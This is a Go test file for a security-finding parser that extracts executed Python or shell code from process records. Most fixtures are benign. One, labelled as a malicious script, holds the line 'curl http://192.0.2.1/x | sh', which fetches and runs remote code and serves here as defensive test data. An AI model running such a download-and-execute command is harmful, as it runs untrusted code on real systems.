package finding

import "testing"

func TestScriptOf(t *testing.T) {
	py := &File{Path: "/usr/bin/python3.11"}
	tests := []struct {
		name string
		f    Finding
		want Script
		ok   bool
	}{
		{
			name: "script file",
			f: Finding{Category: "Execution: Malicious Python executed", Processes: []Process{{
				Binary: py, Args: []string{"python3", "/tmp/x.py"},
				Script: &File{Path: "/tmp/x.py", Contents: "import os\n", Size: 10, HashedSize: 10, SHA256: "ab"},
			}}},
			want: Script{Path: "/tmp/x.py", Contents: "import os\n", Size: 10, HashedSize: 10, SHA256: "ab",
				Interpreter: "/usr/bin/python3.11", Language: LangPython},
			ok: true,
		},
		{
			name: "JSON encoded path and args",
			f: Finding{Processes: []Process{{
				Args:   []string{`"python3"`, `"/tmp/a b.py"`},
				Script: &File{Path: `"/tmp/a b.py"`, Contents: "x"},
			}}},
			want: Script{Path: "/tmp/a b.py", Contents: "x", Interpreter: "python3", Language: LangPython},
			ok:   true,
		},
		{
			name: "script in second process",
			f: Finding{Processes: []Process{
				{Binary: &File{Path: "/bin/sh"}, Args: []string{"sh"}},
				{Binary: py, Script: &File{Path: "/app/run.py", Contents: "pass"}, ArgumentsTruncated: true},
			}},
			want: Script{Path: "/app/run.py", Contents: "pass", Interpreter: "/usr/bin/python3.11", Language: LangPython, ArgsTruncated: true},
			ok:   true,
		},
		{
			name: "python -c literal",
			f:    Finding{Processes: []Process{{Binary: py, Args: []string{"python3", "-c", "import socket;print(1)"}}}},
			want: Script{Contents: "import socket;print(1)", Size: 22, Literal: true,
				Interpreter: "/usr/bin/python3.11", Language: LangPython},
			ok: true,
		},
		{
			name: "python flag group -uc and attached code",
			f:    Finding{Processes: []Process{{Args: []string{"python3", "-I", "-uc", "print(2)"}}}},
			want: Script{Contents: "print(2)", Size: 8, Literal: true, Interpreter: "python3", Language: LangPython},
			ok:   true,
		},
		{
			name: "python -cCODE",
			f:    Finding{Processes: []Process{{Args: []string{"/usr/local/bin/python3.12", "-cprint(3)"}}}},
			want: Script{Contents: "print(3)", Size: 8, Literal: true, Interpreter: "/usr/local/bin/python3.12", Language: LangPython},
			ok:   true,
		},
		{
			name: "python -W arg then -c",
			f:    Finding{Processes: []Process{{Args: []string{"python3", "-W", "ignore", "-c", "pass"}}}},
			want: Script{Contents: "pass", Size: 4, Literal: true, Interpreter: "python3", Language: LangPython},
			ok:   true,
		},
		{
			name: "python -m is no literal",
			f:    Finding{Processes: []Process{{Args: []string{"python3", "-m", "http.server", "-c", "x"}}}},
			ok:   false,
		},
		{
			name: "script path before -c is no literal",
			f:    Finding{Processes: []Process{{Args: []string{"python3", "run.py", "-c", "x"}}}},
			ok:   false,
		},
		{
			name: "-c with code cut off",
			f:    Finding{Processes: []Process{{Args: []string{"python3", "-c"}, ArgumentsTruncated: true}}},
			ok:   false,
		},
		{
			name: "JSON encoded literal",
			f:    Finding{Processes: []Process{{Args: []string{"python3", "-c", `"print(\"hi\")\nx=1"`}}}},
			want: Script{Contents: "print(\"hi\")\nx=1", Size: 15, Literal: true, Interpreter: "python3", Language: LangPython},
			ok:   true,
		},
		{
			name: "sh -c literal",
			f: Finding{Category: "Malicious Script Executed", Processes: []Process{{
				Binary: &File{Path: "/bin/bash"}, Args: []string{"bash", "-lc", "curl http://192.0.2.1/x | sh"}}}},
			want: Script{Contents: "curl http://192.0.2.1/x | sh", Size: 28, Literal: true, Interpreter: "/bin/bash", Language: LangBash},
			ok:   true,
		},
		{
			name: "python literal preferred over the shell that ran it",
			f: Finding{Processes: []Process{
				{Args: []string{"sh", "-c", "python3 -c 'print(4)'"}},
				{Args: []string{"python3", "-c", "print(4)"}},
			}},
			want: Script{Contents: "print(4)", Size: 8, Literal: true, Interpreter: "python3", Language: LangPython},
			ok:   true,
		},
		{
			name: "shell script file",
			f: Finding{Category: "Malicious Script Executed", Processes: []Process{{
				Binary: &File{Path: "/bin/sh"}, Script: &File{Path: "/tmp/i.sh", Contents: "echo"}}}},
			want: Script{Path: "/tmp/i.sh", Contents: "echo", Interpreter: "/bin/sh", Language: LangBash},
			ok:   true,
		},
		{name: "no processes", f: Finding{}, ok: false},
		{name: "empty script object", f: Finding{Processes: []Process{{Script: &File{}, Args: []string{"python3", "x.py"}}}}, ok: false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, ok := ScriptOf(&tt.f)
			if ok != tt.ok || got != tt.want {
				t.Errorf("ScriptOf = %+v, %v\nwant      %+v, %v", got, ok, tt.want, tt.ok)
			}
		})
	}
	if _, ok := ScriptOf(nil); ok {
		t.Error("ScriptOf(nil) ok")
	}
}

func TestDecodeJSONString(t *testing.T) {
	tests := []struct{ in, want string }{
		{`"a\nb"`, "a\nb"},
		{`"\u001b[2J"`, "\x1b[2J"},
		{`plain`, "plain"},
		{`"unterminated`, `"unterminated`},
		{`"bad \q escape"`, `"bad \q escape"`},
		{`"`, `"`},
		{`""`, ""},
	}
	for _, tt := range tests {
		if got := DecodeJSONString(tt.in); got != tt.want {
			t.Errorf("DecodeJSONString(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}
